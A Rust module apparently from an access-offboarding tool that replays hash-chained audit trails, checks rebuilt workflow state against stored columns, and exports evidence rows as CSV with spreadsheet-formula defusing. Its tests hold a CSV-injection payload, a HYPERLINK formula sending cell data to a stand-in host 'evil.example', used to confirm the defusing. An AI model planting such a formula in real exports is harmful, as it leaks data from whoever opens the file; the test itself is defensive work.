//! What the audit trail proves, shared by the command line and the console: the replay
//! verdict of one workflow (chain intact, state rebuilt and equal to what is stored, in
//! the machine state and in the columns people read) and the auditors' evidence rows.
//! Both read only what the store holds; neither calls an app.

use chrono::{DateTime, NaiveDate, Utc};
use serde_json::{json, Value};

use crate::domain::chain::{self, Link, PlainLinks};
use crate::domain::machine::{self, Record, State};
use crate::runtime::definitions::stored;
use crate::store::entities::{audit, workflow};
use crate::store::{Loaded, Store, StoreError};

/// What replaying a trail found.
pub struct ReplayReport {
    /// The rebuilt state, when the trail could be folded.
    pub rebuilt: Option<State>,
    /// The first bad record (its `seq`) and why, if any.
    pub problem: Option<(i32, String)>,
}

impl ReplayReport {
    /// The verdict in words, after `replay OK` or `replay MISMATCH` (`offboard replay`
    /// and the console print the same): `Ok("28 records, chain intact, rebuilt state
    /// matches (completed, removed)")` over a trail of `records`, or `Err("at record 12:
    /// why")`. Values from the trail are in it as recorded: the printer escapes them.
    pub fn verdict(&self, records: usize) -> Result<String, String> {
        match (&self.problem, &self.rebuilt) {
            (Some((seq, why)), _) => Err(format!("at record {seq}: {why}")),
            (None, None) => Err("with nothing rebuilt".into()),
            (None, Some(s)) => Ok(format!(
                "{records} records, chain intact, rebuilt state matches ({}{})",
                s.status.as_str(),
                s.outcome
                    .map(|o| format!(", {}", o.as_str()))
                    .unwrap_or_default()
            )),
        }
    }
}

/// Verifies the chain (as far as `verifier` can) and folds the trail through the state
/// machine; compares the result with the stored workflow `loaded`.
fn replay_trail(
    trail: &[audit::Model],
    verifier: chain::Verifier<'_>,
    loaded: &Loaded,
) -> ReplayReport {
    let head = &loaded.row.trail_head;
    let seq_of = |i: usize| trail.get(i).map(|r| r.seq).unwrap_or(0);
    let links: Vec<Link<'_>> = trail
        .iter()
        .map(|r| Link {
            seq: r.seq,
            at: r.at,
            body: &r.body,
            prev_hash: &r.prev_hash,
            hash: &r.hash,
        })
        .collect();
    if let Err((i, why)) = chain::verify(&links, head, verifier) {
        return ReplayReport {
            rebuilt: None,
            problem: Some((seq_of(i), why)),
        };
    }
    let def = match stored(&loaded.definition_source) {
        Ok(d) => d,
        Err(e) => {
            return ReplayReport {
                rebuilt: None,
                problem: Some((0, format!("stored definition: {e}"))),
            }
        }
    };
    let mut records: Vec<(DateTime<Utc>, Record)> = Vec::with_capacity(trail.len());
    for (i, row) in trail.iter().enumerate() {
        match serde_json::from_str::<Record>(&row.body) {
            Ok(r) if r.kind() == row.kind => records.push((row.at, r)),
            Ok(_) => {
                return ReplayReport {
                    rebuilt: None,
                    problem: Some((seq_of(i), "kind column differs from the record".into())),
                }
            }
            Err(e) => {
                return ReplayReport {
                    rebuilt: None,
                    problem: Some((seq_of(i), format!("unreadable record: {e}"))),
                }
            }
        }
    }
    match machine::fold(&def, &records) {
        Err((i, v)) => ReplayReport {
            rebuilt: None,
            problem: Some((seq_of(i), format!("not a legal transition: {v}"))),
        },
        Ok(rebuilt) => {
            let mut differences = column_differences(&loaded.row, &rebuilt, ended_at(&records));
            if rebuilt != loaded.state {
                differences.insert(0, "state_json differs".to_string());
            }
            let problem = (!differences.is_empty()).then(|| {
                (
                    seq_of(trail.len().saturating_sub(1)),
                    format!(
                        "the rebuilt state differs from the stored state: {}",
                        differences.join("; ")
                    ),
                )
            });
            ReplayReport {
                rebuilt: Some(rebuilt),
                problem,
            }
        }
    }
}

/// When the workflow last ended: the time of the last `completed`, `failed` or
/// `cancelled` record (an operator's `retry` reopens an ended workflow; notes after the
/// end change nothing).
fn ended_at(records: &[(DateTime<Utc>, Record)]) -> Option<DateTime<Utc>> {
    records
        .iter()
        .rev()
        .find(|(_, r)| {
            matches!(
                r,
                Record::Completed { .. } | Record::Failed { .. } | Record::Cancelled { .. }
            )
        })
        .map(|(at, _)| *at)
}

/// The stored columns that `list`, the console and the evidence show — `state`,
/// `outcome`, `error_code`, `finished_at` — that differ from the state the trail rebuilt,
/// each named with both values (escaped, as they may have been edited by anyone).
/// `finished_at` is due exactly when the rebuilt state is final, at `ended`.
fn column_differences(
    row: &workflow::Model,
    rebuilt: &State,
    ended: Option<DateTime<Utc>>,
) -> Vec<String> {
    let finished = ended.filter(|_| rebuilt.status.is_final());
    let time = |t: Option<DateTime<Utc>>| t.map(|t| t.to_rfc3339());
    let columns = [
        (
            "state",
            Some(row.state.clone()),
            Some(rebuilt.status.as_str().to_string()),
        ),
        (
            "outcome",
            row.outcome.clone(),
            rebuilt.outcome.map(|o| o.as_str().to_string()),
        ),
        (
            "error_code",
            row.error_code.clone(),
            rebuilt.error_code.map(|c| c.as_str().to_string()),
        ),
        ("finished_at", time(row.finished_at), time(finished)),
    ];
    let shown = |v: &Option<String>| {
        v.as_ref()
            .map_or("nothing".to_string(), |v| format!("{v:?}"))
    };
    columns
        .iter()
        .filter(|(_, stored, rebuilt)| stored != rebuilt)
        .map(|(column, stored, rebuilt)| {
            format!(
                "{column} is {}, the trail says {}",
                shown(stored),
                shown(rebuilt)
            )
        })
        .collect()
}

/// One workflow's trail, checked.
pub struct Checked {
    /// The workflow as stored.
    pub loaded: Loaded,
    /// Its audit trail, oldest first.
    pub trail: Vec<audit::Model>,
    /// What replaying the trail found.
    pub report: ReplayReport,
}

impl Checked {
    /// Whether any link is keyed (HMAC-SHA256): a process without the audit key cannot
    /// vouch for it, which is a configuration problem, not evidence of tampering.
    pub fn keyed(&self) -> bool {
        self.trail.iter().any(|r| chain::is_keyed(&r.hash))
    }

    /// The names of the workflow's steps, for describing its records.
    pub fn step_names(&self) -> Vec<String> {
        self.loaded
            .state
            .steps
            .iter()
            .map(|s| s.name.clone())
            .collect()
    }
}

/// Replays workflow `id` from its trail alone (`None`: no such workflow).
pub async fn replay(store: &Store, id: &str) -> Result<Option<Checked>, StoreError> {
    let verifier = chain::Verifier {
        key: store.audit_key(),
        plain: store.plain_links(id).await?,
    };
    check(store, id, verifier).await
}

async fn check(
    store: &Store,
    id: &str,
    verifier: chain::Verifier<'_>,
) -> Result<Option<Checked>, StoreError> {
    let Some(loaded) = store.load(id).await? else {
        return Ok(None);
    };
    let trail = store.trail(id).await?;
    let report = replay_trail(&trail, verifier, &loaded);
    Ok(Some(Checked {
        loaded,
        trail,
        report,
    }))
}

/// Replays every workflow created at or after `since` (all when `None`), oldest first,
/// handing each to `each` as it is checked; an error from `each` stops the walk.
pub async fn verify_each<E: From<StoreError>>(
    store: &Store,
    since: Option<DateTime<Utc>>,
    mut each: impl FnMut(Checked) -> Result<(), E>,
) -> Result<(), E> {
    let key_in_use = store.key_first_used().await?.is_some();
    let legacy = store.legacy_trails().await?;
    let mut workflows = store.list(None).await?;
    workflows.reverse();
    for row in workflows
        .iter()
        .filter(|r| since.is_none_or(|s| r.created_at >= s))
    {
        let verifier = chain::Verifier {
            key: store.audit_key(),
            plain: PlainLinks::of(key_in_use, legacy.get(&row.id).copied()),
        };
        if let Some(checked) = check(store, &row.id, verifier).await? {
            each(checked)?;
        }
    }
    Ok(())
}

/// A text that [`parse_date`] does not read as a date.
#[derive(Debug, thiserror::Error)]
#[error("{0:?} is not a date (YYYY-MM-DD) or an RFC 3339 time")]
pub struct NotADate(pub String);

/// Parses `2026-11-20` (midnight UTC) or an RFC 3339 time.
pub fn parse_date(raw: &str) -> Result<DateTime<Utc>, NotADate> {
    if let Ok(t) = DateTime::parse_from_rfc3339(raw) {
        return Ok(t.with_timezone(&Utc));
    }
    NaiveDate::parse_from_str(raw, "%Y-%m-%d")
        .ok()
        .and_then(|d| d.and_hms_opt(0, 0, 0))
        .map(|t| t.and_utc())
        .ok_or_else(|| NotADate(raw.to_string()))
}

/// The columns, in order (CSV header and JSON keys).
pub const COLUMNS: [&str; 19] = [
    "workflow_id",
    "person_email",
    "app",
    "connection",
    "event_id",
    "event_type",
    "event_time",
    "requested_by",
    "transfer_to",
    "started_at",
    "finished_at",
    "state",
    "outcome",
    "error_code",
    "entitlements_before",
    "entitlements_after",
    "seconds_to_access_removed",
    "last_rechecked_at",
    "recheck_result",
];

/// The rows for workflows created in [since, until).
pub async fn rows(
    store: &Store,
    since: DateTime<Utc>,
    until: Option<DateTime<Utc>>,
) -> Result<Vec<Value>, StoreError> {
    let mut out = Vec::new();
    let mut workflows = store.list(None).await?;
    workflows.reverse();
    for row in workflows {
        if row.created_at < since || until.is_some_and(|u| row.created_at >= u) {
            continue;
        }
        let Some(loaded) = store.load(&row.id).await? else {
            continue;
        };
        let state = loaded.state;
        let event_time = state.request.event_time;
        let removed = matches!(
            row.outcome.as_deref(),
            Some("removed" | "downgraded" | "deactivated")
        );
        let seconds = match (removed, event_time, row.finished_at) {
            (true, Some(asked), Some(done)) => Some((done - asked).num_seconds()),
            _ => None,
        };
        out.push(json!({
            "workflow_id": row.id,
            "person_email": row.person_email,
            "app": row.app,
            "connection": row.connection,
            "event_id": row.event_id,
            "event_type": row.event_type,
            "event_time": event_time.map(|t| t.to_rfc3339()),
            "requested_by": state.request.source,
            "transfer_to": row.transfer_to,
            "started_at": row.created_at.to_rfc3339(),
            "finished_at": row.finished_at.map(|t| t.to_rfc3339()),
            "state": row.state,
            "outcome": row.outcome,
            "error_code": row.error_code,
            "entitlements_before": state.facts.get("entitlements_before").cloned().unwrap_or(Value::Null),
            "entitlements_after": state.facts.get("entitlements_after").cloned().unwrap_or(Value::Null),
            "seconds_to_access_removed": seconds,
            // What the last recheck after the end found (`still_gone`, `reactivated`,
            // `recreated`), so a sampled leaver shows that access stayed removed.
            "last_rechecked_at": state.rechecks.last().map(|r| r.at.to_rfc3339()),
            "recheck_result": state.rechecks.last().map(|r| r.finding.result.as_str()),
        }));
    }
    Ok(out)
}

/// The rows of the workflows that finished before `before`: what `prune` exports before
/// it removes them.
pub async fn finished_before(
    store: &Store,
    before: DateTime<Utc>,
) -> Result<Vec<Value>, StoreError> {
    let ids: std::collections::HashSet<String> = store
        .list(None)
        .await?
        .into_iter()
        .filter(|w| w.finished_at.is_some_and(|f| f < before))
        .map(|w| w.id)
        .collect();
    Ok(rows(store, DateTime::<Utc>::MIN_UTC, Some(before))
        .await?
        .into_iter()
        .filter(|r| r["workflow_id"].as_str().is_some_and(|id| ids.contains(id)))
        .collect())
}

/// A cell's text. A string that a spreadsheet would run as a formula (it starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return: OWASP's CSV-injection list) gets a leading
/// `'`, which makes it plain text; [`csv`] then quotes it. Numbers are not strings
/// offboard was handed, so a negative one stays a number.
fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{s}"),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// The rows as CSV with a header line (the `csv` crate). Fields are quoted when CSV needs
/// it, and always when they hold a `'` — so every cell `cell` defused is a quoted field
/// starting with `'`. (The crate quotes any field containing its `comment` byte; nothing
/// here reads the output back with comments.)
pub fn csv(rows: &[Value]) -> String {
    let mut out = ::csv::WriterBuilder::new()
        .quote_style(::csv::QuoteStyle::Necessary)
        .comment(Some(b'\''))
        .from_writer(Vec::new());
    let written = (|| {
        out.write_record(COLUMNS)?;
        for row in rows {
            out.write_record(COLUMNS.iter().map(|c| cell(&row[*c])))?;
        }
        out.flush()
    })();
    // Writing to memory fails only on allocation, which aborts first.
    written.expect("CSV written to memory");
    let bytes = out.into_inner().map(|b| b.to_vec()).unwrap_or_default();
    // Every cell came from a `String` or a JSON value, so the bytes are UTF-8.
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The CSV of one row whose `person_email` is `email` and `event_id` is `event`.
    fn line(email: Value, event: Value) -> String {
        let row = json!({"person_email": email, "event_id": event});
        let text = csv(&[row]);
        let mut lines = text.lines();
        assert_eq!(lines.next(), Some(COLUMNS.join(",").as_str()));
        let line = lines.next().unwrap().to_string();
        assert_eq!(lines.next(), None);
        line
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(line(json!("plain"), json!(42)), ",plain,,,42,,,,,,,,,,,,,,");
        assert_eq!(
            line(json!({"a": 1, "b": "x"}), Value::Null),
            ",\"{\"\"a\"\":1,\"\"b\"\":\"\"x\"\"}\",,,,,,,,,,,,,,,,,"
        );
        assert_eq!(line(json!("a,b"), json!(-3)), ",\"a,b\",,,-3,,,,,,,,,,,,,,");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_defused() {
        let attack = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
        assert_eq!(
            line(json!(attack), json!("@SUM(1+1)")),
            r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",,,"'@SUM(1+1)",,,,,,,,,,,,,,"#
        );
        for lead in ["+", "-", "\t", "\r"] {
            let text = format!("{lead}1+1");
            assert_eq!(cell(&json!(text)), format!("'{text}"));
            assert!(line(json!(text), Value::Null).starts_with(&format!(",\"'{lead}1+1\",")));
        }
        // A defused cell reads back as the text it was, behind the `'`.
        let text = csv(&[json!({"person_email": attack})]);
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[1], format!("'{attack}"));
        // Numbers and text that only contains such characters are left as they are.
        assert_eq!(cell(&json!(-5)), "-5");
        assert_eq!(cell(&json!("ada@example.com")), "ada@example.com");
    }

    #[test]
    fn csv_has_the_header_and_one_line_per_row() {
        let row = json!({"workflow_id": "w1", "person_email": "a@x", "state": "completed"});
        let text = csv(&[row]);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], COLUMNS.join(","));
        assert!(lines[1].starts_with("w1,a@x,"), "{}", lines[1]);
        assert_eq!(lines.len(), 2);
    }
}
